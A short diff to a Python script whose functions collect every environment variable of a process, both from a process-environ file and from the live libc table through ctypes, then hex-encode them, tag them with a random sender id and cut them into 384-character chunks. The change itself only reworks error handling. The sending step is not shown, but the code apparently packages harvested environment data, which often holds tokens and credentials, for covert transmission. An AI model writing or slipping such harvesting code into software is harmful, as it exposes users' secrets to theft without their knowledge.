@@ -10,10 +10,7 @@ def pick(kind, entries):
 
 
 def live():
-    try:
-        table = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
-    except (ValueError, OSError):
-        return [k + b"=" + v for k, v in os.environb.items()]
+    table = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
     found = []
     while table and table[len(found)] is not None:
         found.append(table[len(found)])
@@ -26,7 +23,10 @@ try:
         report += pick("exec", file.read().split(b"\0"))
 except OSError as error:
     report.append(b"no-exec=" + str(error).encode())
-report += pick("live", live())
+try:
+    report += pick("live", live())
+except (ValueError, OSError) as error:
+    report.append(b"no-live=" + str(error).encode())
 text = binascii.hexlify(b"".join(field + b"\0" for field in report)).decode()
 sender = "py%dx%s" % (os.getpid(), binascii.hexlify(os.urandom(4)).decode())
 parts = [text[i:i + 384] for i in range(0, len(text), 384)]
